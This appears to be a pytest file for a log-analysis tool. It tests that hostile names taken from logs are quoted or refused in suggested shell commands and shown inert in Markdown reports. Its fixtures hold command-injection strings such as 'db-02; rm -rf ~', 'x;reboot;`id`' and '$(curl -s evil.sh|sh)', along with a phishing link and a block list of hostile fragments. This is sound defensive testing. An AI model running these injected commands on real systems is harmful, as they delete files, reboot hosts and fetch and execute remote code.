"""Hostile names and lines through the whole pipeline (issue 13, items 3 and 4, and the
report's truthfulness): suggested commands, the Markdown report, its terminal rendering.

The incidents are real: the synthetic homelab backtested with postgres OOM-killed on a
host whose name is `db-02; rm -rf ~` (the kernel's line names the victim
`$(curl -s evil.sh|sh)`), and a backup job renamed ``x;reboot;`id` `` whose disk fills
up; the hostile service also logs a phishing line full of Markdown. Every name and line
the report shows comes from those logs.
"""

from __future__ import annotations

import io
import json
import re
import shlex
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token
from rich.console import Console
from sqlalchemy import Engine
from typer.testing import CliRunner

import logvigil.cli.investigate as investigate_cli
from detector.incidents.model import Incident, IncidentStatus, RootRef
from detector.incidents.root import rank_roots
from detector.incidents.summary import incident_title
from detector.incidents.topology import InventoryTopology
from investigate.analysis import report_title
from investigate.analysis.impact import impact_of
from investigate.mdtext import code_block, code_span, escape_text
from investigate.model import Report
from investigate.report_md import render_markdown
from investigate.service import investigate
from investigate.shell import (
    host_name,
    is_built_command,
    process_name,
    sh,
    unit_name,
)
from logvigil.app.backtest import run_backtest
from logvigil.app.runtime import read_inventory
from logvigil.app.settings import Settings
from logvigil.core.events import Severity
from logvigil.core.findings import Finding
from logvigil.core.timeutil import iso_z
from logvigil.evaluation.demo import HOMELAB_INVENTORY
from logvigil.evaluation.synth import Fault, FaultKind, generate_jsonl
from logvigil.store.database import create_store_engine

SERVICE = "x;reboot;`id`"
HOST = "db-02; rm -rf ~"
VICTIM = "$(curl -s evil.sh|sh)"
PHISH = "[Reset your SSO password here](https://evil.example/sso) **URGENT** ||spoiler||"
#: Pieces of the hostile names that must never reach a command.
HOSTILE_PIECES = ("reboot", "rm", "-rf", "curl", "evil", "`", "$(", ";", "~")

START = datetime(2026, 3, 2, tzinfo=UTC)
OOM_AT = datetime(2026, 3, 3, 1, tzinfo=UTC)
DISK_AT = OOM_AT + timedelta(hours=2)
NOW = datetime(2026, 3, 4, 12, tzinfo=UTC)
#: CommonMark with GFM's tables, strike-through and autolinks (a URL with a scheme or
#: `www.` is linked even without `<>`); like GFM and Discord, a bare domain (`evil.sh`)
#: is not a link.
MD = MarkdownIt("gfm-like")
MD.linkify.set({"fuzzy_link": False})


def hostile_lines() -> list[bytes]:
    """28 hours of the homelab, renamed by an attacker, with two faults and phishing lines."""
    faults = [
        Fault("oom", FaultKind.OOM_CASCADE, OOM_AT, timedelta(minutes=15), service="postgres"),
        Fault("disk", FaultKind.DISK_FULL, DISK_AT, timedelta(minutes=20), service="backup"),
    ]
    out = []
    for raw in generate_jsonl(28 * 60, start=START, seed=3, faults=faults):
        o = json.loads(raw)
        if o.get("host") == "db-01":
            o["host"] = HOST
        if o.get("service") == "restic":  # the backup job: not in the inventory any more
            o["service"] = SERVICE
        if o.get("UNIT") == "restic-backup.service":
            o["UNIT"] = f"{SERVICE}.service"
            o["message"] = o["message"].replace("restic-backup.service", f"{SERVICE}.service")
        # The kernel names its victim by comm: "Killed process 2811 (postgres)", "task=postgres".
        o["message"] = (
            o["message"]
            .replace("(postgres)", f"({VICTIM})")
            .replace("task=postgres", f"task={VICTIM}")
        )
        out.append(o)
    for at, host in ((OOM_AT, HOST), (DISK_AT, "nas-01")):
        for i in range(3):
            out.append(
                {
                    "ts": iso_z(at + timedelta(seconds=5 + i)),
                    "host": host,
                    "service": SERVICE,
                    "severity": "error",
                    "message": f"FATAL: {PHISH} ``` # pwned @everyone <https://evil.example/x>",
                }
            )
    out.sort(key=lambda o: o["ts"])
    return [(json.dumps(o) + "\n").encode() for o in out]


@dataclass
class Hostile:
    db: Path
    engine: Engine
    oom: Report
    disk: Report


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    db = tmp_path_factory.mktemp("hostile") / "hostile.db"
    result = run_backtest(
        hostile_lines(),
        fmt="jsonl",
        settings=Settings(data_dir=db.parent / "data"),
        inventory_path=HOMELAB_INVENTORY,
        db_url=f"sqlite:///{db}",
    )
    engine = create_store_engine(f"sqlite:///{db}")
    topology = InventoryTopology(read_inventory(HOMELAB_INVENTORY))
    by_root = {(i["suspected_root"] or {}).get("service"): i["id"] for i in result.incidents}
    assert {"postgres", SERVICE} <= by_root.keys(), result.incidents
    yield Hostile(
        db,
        engine,
        investigate(engine, topology, by_root["postgres"], now=NOW),
        investigate(engine, topology, by_root[SERVICE], now=NOW),
    )
    engine.dispose()


# -- suggested commands ----------------------------------------------------------------------


def commands(report: Report) -> list[str]:
    """Every command of the report's actions (the backtick spans)."""
    return [c for a in report.suggested_actions for c in re.findall(r"`([^`]+)`", a)]


def rendered_commands(md: str) -> list[str]:
    """The code spans of the rendered "Suggested actions" section: what a human copies."""
    tokens = MD.parse(md)
    start = next(
        i
        for i, t in enumerate(tokens)
        if t.type == "inline" and t.content == "Suggested actions" and tokens[i - 1].tag == "h3"
    )
    out = []
    for t in tokens[start + 1 :]:
        if t.type in ("hr", "heading_open"):  # the footer, or another section
            break
        if t.type == "inline":
            out += [c.content for c in t.children or [] if c.type == "code_inline"]
    return out


def assert_quoted(command: str) -> None:
    """`command` is words quoted by `shlex.quote` joined by pipes, and none of them holds a
    piece of a hostile name."""
    assert is_built_command(command), command
    lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    tokens = list(lexer)
    operators = {t for t in tokens if t and all(c in "();<>|&" for c in t)}
    assert operators <= {"|"}, (command, operators)
    for word in shlex.split(command):
        for piece in HOSTILE_PIECES:
            assert piece not in word or word in ("-rf", "-rh"), (command, word)


def test_every_suggested_command_is_built_from_quoted_words(hostile: Hostile) -> None:
    for report in (hostile.oom, hostile.disk):
        built = commands(report)
        assert built, report.suggested_actions
        for c in built:
            assert_quoted(c)
        shown = rendered_commands(report.report_md)
        assert sorted(shown) == sorted(built)  # every command is shown as code, nothing else
        for c in shown:
            assert_quoted(c)


def test_a_hostile_host_and_victim_get_no_command(hostile: Hostile) -> None:
    r = hostile.oom
    assert r.root_cause is not None and (r.root_cause.service, r.root_cause.host) == (
        "postgres",
        HOST,
    )
    actions = "\n".join(r.suggested_actions)
    assert "cannot be a host name (RFC 1123)" in actions
    assert f"victim is named {VICTIM!r}" in actions and "cannot be a process name" in actions
    # The unit comes from the inventory: a real name, quoted, still suggested.
    assert "`systemctl status postgresql@15-main.service`" in actions
    assert "--since '2026-03-03 00:50'" in actions
    assert all(HOST not in c and "db-02" not in c for c in commands(r))


def test_a_hostile_service_gets_no_systemctl_command(hostile: Hostile) -> None:
    r = hostile.disk
    assert r.root_cause is not None and r.root_cause.service == SERVICE
    actions = "\n".join(r.suggested_actions)
    assert "cannot be a systemd unit name (systemd.unit(5))" in actions
    assert not any(c.startswith(("systemctl", "journalctl -u")) for c in commands(r))
    assert "`df -h` and `df -i` on nas-01" in actions


@pytest.mark.parametrize(
    "word", [SERVICE, HOST, VICTIM, "'", "", "a b", "$HOME", "it's", "\\", "|", "-rf"]
)
def test_sh_quotes_each_word_whole(word: str) -> None:
    line = sh("systemctl", "status", word)
    assert shlex.split(line) == ["systemctl", "status", word]
    assert is_built_command(line)


def test_only_what_sh_builds_passes_as_a_command() -> None:
    for text in (
        f"systemctl status {SERVICE}.service",
        f"ssh {HOST} uptime",
        "ps -C $(curl -s evil.sh|sh)",
        "journalctl -u a.service; reboot",
        "echo 'unclosed",
        "| head",
    ):
        assert not is_built_command(text), text


@pytest.mark.parametrize(
    ("name", "ok"),
    [
        ("postgresql@15-main.service", True),
        ("systemd-journald.service", True),
        ("user@1000.service", True),
        ("session-3.scope", True),
        ("getty@tty1.service", True),
        ("container-getty@.service", True),  # a template
        ("dev-disk-by\\x2duuid-1f2e.device", True),  # systemd-escape(1)'s \x2d
        ("system.slice", True),
        ("-.mount", False),  # real, but read as an option
        (f"{SERVICE}.service", False),
        ("nginx", False),  # no suffix
        ("a b.service", False),
        ("x.service\nreboot", False),
        ("a" * 250 + ".service", False),
    ],
)
def test_unit_names_follow_systemd_unit_5(name: str, ok: bool) -> None:
    assert (unit_name(name) == name) is ok


@pytest.mark.parametrize(
    ("name", "ok"),
    [
        ("db-01", True),
        ("db-01.home.arpa", True),
        ("nas-01.", True),
        ("192.168.1.10", True),
        ("fe80::1", True),
        ("1password", True),  # RFC 1123 allows a leading digit
        (HOST, False),
        ("db_01", False),
        ("-oProxyCommand=sh", False),
        ("db-.example", False),
        ("a" * 64, False),
        ("a..b", False),
    ],
)
def test_host_names_follow_rfc_1123(name: str, ok: bool) -> None:
    assert (host_name(name) == name) is ok


@pytest.mark.parametrize(
    ("name", "ok"),
    [
        ("postgres", True),
        ("kworker/0:1", True),
        ("php-fpm8.2", True),
        ("$(reboot)", True),  # a possible comm: it is quoted, never run
        (VICTIM, False),  # 21 bytes: the kernel keeps 15
        ("-bash", False),
        ("a\nb", False),
    ],
)
def test_process_names_are_kernel_comm_names(name: str, ok: bool) -> None:
    assert (process_name(name) == name) is ok


# -- the Markdown report -----------------------------------------------------------------------


def walk(tokens: list[Token]) -> Iterator[Token]:
    for t in tokens:
        yield t
        if t.children:
            yield from walk(t.children)


OUR_HEADINGS = re.compile(
    r"Incident \d+: .*|Root cause|Critical failure|Impact|Timeline|Evidence|Certain|Possible"
    r"|Suggested actions"
)


def assert_inert(md: str, names: set[str]) -> None:
    """No link, image, HTML, emphasis, strike-through, quote or heading from the logs in
    `md` as a CommonMark/GFM renderer (with bare URLs linked) reads it."""
    tokens = list(walk(MD.parse(md)))
    kinds = {t.type for t in tokens}
    assert not kinds & {"link_open", "image", "html_inline", "html_block", "em_open", "s_open"}
    assert "blockquote_open" not in kinds
    for i, t in enumerate(tokens):
        if t.type == "heading_open":
            assert OUR_HEADINGS.fullmatch(tokens[i + 1].content), tokens[i + 1].content
        if t.type == "strong_open":  # ours: a subject's name, an evidence id
            inner = tokens[i + 1].content
            assert inner in names or re.fullmatch(r"E\d+|No root cause found\.", inner), inner
    texts = " ".join(t.content for t in tokens if t.type == "text")
    assert "https://evil.example" not in texts  # a URL from the logs is only ever code
    code = " ".join(t.content for t in tokens if t.type in ("code_inline", "fence"))
    assert PHISH in code  # shown verbatim, as code


def test_the_markdown_report_shows_no_live_markdown_from_the_logs(hostile: Hostile) -> None:
    names = {"postgres", SERVICE, VICTIM[:-1], "gitea", "nextcloud", "nginx", "backup", "nas-01"}
    for report in (hostile.oom, hostile.disk):
        assert_inert(report.report_md, names)
        assert "@everyone" not in report.report_md
        assert render_markdown(report) == report.report_md  # deterministic


def test_escaping_keeps_every_character_of_a_name() -> None:
    for text in (SERVICE, HOST, VICTIM, PHISH, "# h", "> q", "-# sub", "1. x", "a\\b"):
        tokens = list(walk(MD.parse(f"- {escape_text(text)}")))
        shown = "".join(t.content for t in tokens if t.type in ("text", "code_inline"))
        assert shown == text, (text, escape_text(text))
    assert code_span("a ``` b").startswith("````")
    fences = [t for t in MD.parse(code_block(["x ```", "```", "y"])) if t.type == "fence"]
    assert len(fences) == 1 and fences[0].content == "x ```\n```\ny\n"


def test_the_critical_failure_and_certain_say_each_fact_once(hostile: Hostile) -> None:
    r = hostile.oom
    line = r.report_md.split("### Critical failure\n", 1)[1].split("\n", 1)[0]
    assert line.count("OOM kill") == 1 and line.count("template #") == 1, line
    assert not r.critical_failure.summary.startswith("postgres")
    timeline = {e.summary for e in r.timeline}
    assert not any(e in s for s in r.certain for e in timeline)
    assert any(s.startswith("postgres on db-02; rm -rf ~: OOM-killed") for s in r.certain)
    root = r.report_md.split("### Root cause\n", 1)[1].split("\n", 1)[0]
    assert root.count("postgres") == 1, root


def test_the_terminal_rendering_has_no_markdown_escapes(
    hostile: Hostile, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cfg = tmp_path / "logvigil.yaml"
    cfg.write_text(f"data_dir: {tmp_path / 'data'}\ngraph:\n  inventory: {HOMELAB_INVENTORY}\n")
    screen = io.StringIO()
    terminal = Console(file=screen, force_terminal=True, width=400, color_system=None)
    monkeypatch.setattr(investigate_cli, "out", terminal)
    r = CliRunner().invoke(
        investigate_cli.app,
        ["--incident", str(hostile.oom.incident_id), "--db", f"sqlite:///{hostile.db}",
         "--config", str(cfg)],
    )  # fmt: skip
    assert r.exit_code == 0, r.output
    text = screen.getvalue()
    assert "Critical failure" in text and "### " not in text
    for escape in ("\\<", "\\*", "\\[", "\\]", "\\|", "\\~", "\\#", "\\_", "-\\>", "\\`"):
        assert escape not in text, escape
    assert "Doctrine\\DBAL\\Exception" in text and "Doctrine\\\\DBAL" not in text
    assert "db-02; rm -rf ~" in text and "$(curl -s evil.sh|sh" in text
    assert "\x1b" not in text  # no colour asked for; and no escape of a log line


def test_piped_the_report_stays_markdown(hostile: Hostile, tmp_path: Path) -> None:
    cfg = tmp_path / "logvigil.yaml"
    cfg.write_text(f"data_dir: {tmp_path / 'data'}\ngraph:\n  inventory: {HOMELAB_INVENTORY}\n")
    r = CliRunner().invoke(
        investigate_cli.app,
        ["--incident", str(hostile.disk.incident_id), "--db", f"sqlite:///{hostile.db}",
         "--config", str(cfg)],
    )  # fmt: skip
    assert r.exit_code == 0, r.output
    assert r.stdout == hostile.disk.report_md


# -- supervisors ------------------------------------------------------------------------------

T = datetime(2026, 3, 3, 1, tzinfo=UTC)


def _finding(service: str, detector: str, summary: str, tid: int, kind: str | None = None):
    return Finding(
        detector=detector,
        at=T,
        started_at=T,
        service=service,
        host="db-01",
        severity=Severity.ERROR,
        summary=summary,
        template_id=tid,
        kind=kind,
    )


def test_systemd_is_never_affected_when_one_of_its_units_fails() -> None:
    # systemd's own words when a unit fails (systemd >= 250, "combined" status format).
    findings = (
        _finding(
            "postgres",
            "primitive",
            "postgres on db-01: unit failed (template #12)",
            12,
            "unit_failed",
        ),
        _finding(
            "systemd",
            "new_template",
            "systemd: first-seen ERROR template #13: Failed to start "
            "postgresql@15-main.service - PostgreSQL Cluster 15-main.",
            13,
        ),
    )
    root = RootRef("postgres", "db-01")
    title = incident_title(findings, root)
    assert "systemd" not in title  # the incident layer never names it affected either
    incident = Incident(
        id=9,
        status=IncidentStatus.OPEN,
        severity=Severity.ERROR,
        title=title,
        opened_at=T,
        updated_at=T,
        last_finding_at=T,
        resolved_at=None,
        services=("postgres", "systemd"),
        hosts=("db-01",),
        findings=findings,
        root=root,
        blast_radius=("systemd",),
    )
    assert report_title(incident) == "postgres unit failed on db-01"
    topology = InventoryTopology(read_inventory(HOMELAB_INVENTORY))
    best = next(
        c for c in rank_roots(list(findings), topology).candidates if c.service == "postgres"
    )
    impact = impact_of(best, [{"service": "systemd", "depth": 1}], list(findings), {})
    assert impact == []
